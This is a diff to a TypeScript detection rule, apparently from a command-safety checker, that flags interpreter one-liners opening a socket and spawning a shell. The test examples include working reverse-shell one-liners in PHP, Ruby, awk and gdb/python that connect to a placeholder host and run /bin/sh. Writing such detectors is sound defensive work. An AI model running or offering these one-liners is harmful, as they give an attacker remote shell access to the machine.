@@ -66,8 +66,9 @@ export const reverseShellRules: CommandRule[] = [
     description: "interpreter one-liner opening a socket and attaching a shell",
     severity: "critical",
     reason: "semantic:destructive_command",
-    names: ["python", "python2", "python3", "perl", "ruby", "php", "node", "nodejs", "lua", "awk", "gawk", "nawk", "pwsh", "powershell"],
+    // Any program that runs inline code: interpreters, but also gdb -ex, vim -c, jjs, irb …
     check: (inv) => {
+      if (inv.args.length === 0) return false;
       const code = inlineCode(inv) || inv.args.join(" ");
       return SOCKET_CODE.test(code) && SPAWN_CODE.test(code);
     },
@@ -78,8 +79,9 @@ export const reverseShellRules: CommandRule[] = [
         "php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
         "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
         "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(1) { s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c) } } }'",
+        "gdb -nx -ex 'python import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])' -ex quit",
       ],
-      negative: ["python3 -c 'import socket; print(socket.gethostname())'", "node -e 'console.log(1)'"],
+      negative: ["python3 -c 'import socket; print(socket.gethostname())'", "node -e 'console.log(1)'", "man socket", "grep -r socket src/"],
     },
   },
   {
